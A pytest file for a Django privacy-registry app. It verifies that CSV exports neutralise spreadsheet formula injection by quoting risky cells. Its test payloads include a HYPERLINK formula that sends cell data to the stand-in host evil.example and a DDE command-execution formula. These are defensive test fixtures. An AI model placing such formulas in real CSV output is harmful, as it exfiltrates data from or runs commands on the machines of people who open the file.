"""Every CSV the product writes opens in a spreadsheet as data: a cell that would start a formula (``=``, ``+``,
``-``, ``@``, TAB, CR) is prefixed with ``'`` by the one shared writer, privacy_registry.csvsafe."""
from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse

from privacy_registry import csvsafe, exports, selectors
from privacy_registry.exports.templates import TEMPLATES
from tests import factories as f

BASE_DIR = Path(__file__).resolve().parent.parent
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
    "=cmd|' /C calc'!A0",
]
HARMLESS = ["Payroll", "1-2-3 plan", "a=b", "'already quoted", ""]
# Tabs and carriage returns are the spreadsheet importer's business too: a cell may not start with any of these.
FORMULA_START = re.compile(r"^[=+\-@\t\r]")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_a_text_cell_that_starts_a_formula_gets_a_quote_and_others_stay_as_they_are():
    buffer = io.StringIO()
    writer = csvsafe.writer(buffer, lineterminator="\r\n")
    writer.writerow(PAYLOADS)
    writer.writerows([HARMLESS])
    first, second = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert first == ["'" + payload for payload in PAYLOADS]
    assert second == HARMLESS


def test_numbers_handed_over_as_numbers_stay_numbers():
    buffer = io.StringIO()
    csvsafe.writer(buffer).writerow([-3, -2.5, Decimal("-0.10"), None, "-3"])
    assert buffer.getvalue() == "-3,-2.5,-0.10,,'-3\r\n"


def test_dict_writer_neutralises_the_header_and_every_value():
    buffer = io.StringIO()
    writer = csvsafe.DictWriter(buffer, fieldnames=["=name", "value"], lineterminator="\n")
    writer.writeheader()
    writer.writerow({"=name": "@SUM(A1)", "value": "ok"})
    writer.writerows([{"=name": "+1", "value": -1}])
    assert list(csv.reader(io.StringIO(buffer.getvalue(), newline=""))) == [
        ["'=name", "value"], ["'@SUM(A1)", "ok"], ["'+1", "-1"],
    ]


def test_no_module_writes_csv_around_the_shared_writer():
    """Whatever CSV comes next (rights-request exports, say) goes through csvsafe, or this fails."""
    raw = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(BASE_DIR))
        for app in ("privacy_registry", "subjects", "retention", "consent", "rights")
        for path in (BASE_DIR / app).rglob("*.py")
        if path.name != "csvsafe.py" and "migrations" not in path.parts and raw.search(path.read_text())
    ]
    assert offenders == []


@pytest.fixture
def poisoned_organisation(db):
    """An organisation whose register text is the payloads: activity names and purpose descriptions."""
    organisation = f.OrganisationFactory(slug="poisoned")
    f.PrivacyContactFactory(organisation=organisation)
    for payload in PAYLOADS:
        activity = f.ProcessingActivityFactory(organisation=organisation, name=payload)
        f.PurposeFactory(activity=activity, description=payload)
    return selectors.organisations_for_record().get(pk=organisation.pk)


@pytest.mark.django_db
@pytest.mark.parametrize("template", sorted(TEMPLATES))
def test_art30_csv_export_neutralises_every_payload(poisoned_organisation, template):
    exported = exports.export_record(organisation=poisoned_organisation, fmt="csv", template=template, language="en")
    cells = _cells(exported.content.decode("utf-8-sig"))
    assert [cell for cell in cells if FORMULA_START.match(cell)] == []
    for payload in PAYLOADS:
        assert "'" + payload in cells, payload


@pytest.mark.django_db
def test_art30_csv_downloaded_from_the_admin_neutralises_every_payload(poisoned_organisation, auditor_client):
    export_page = reverse("admin:privacy_registry_organisation_export_ropa", args=[poisoned_organisation.pk])
    response = auditor_client.get(export_page, {"format": "csv", "template": "art30"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    cells = _cells(response.content.decode("utf-8-sig"))
    assert [cell for cell in cells if FORMULA_START.match(cell)] == []
    assert {"'" + payload for payload in PAYLOADS} <= set(cells)


@pytest.mark.django_db
def test_access_export_csv_files_neutralise_every_payload():
    """The Art. 15 / 20 export's CSV files carry the subject's own words and the register's."""
    from rights.exports import export_csv_files, export_data

    subject = f.DataSubjectFactory(first_name=PAYLOADS[0], last_name=PAYLOADS[1], company=PAYLOADS[2],
                                   job_title=PAYLOADS[3], city=PAYLOADS[4], street_address=PAYLOADS[5])
    activity = f.ProcessingActivityFactory(organisation=subject.organisation, name=PAYLOADS[6])
    f.PurposeFactory(activity=activity, description=PAYLOADS[0])
    f.EngagementFactory(subject=subject, activity=activity)
    files = export_csv_files(export_data(subject=subject))
    cells = [cell for content in files.values() for cell in _cells(content.decode("utf-8-sig"))]
    assert [cell for cell in cells if FORMULA_START.match(cell)] == []
    assert {"'" + payload for payload in PAYLOADS} <= set(cells)
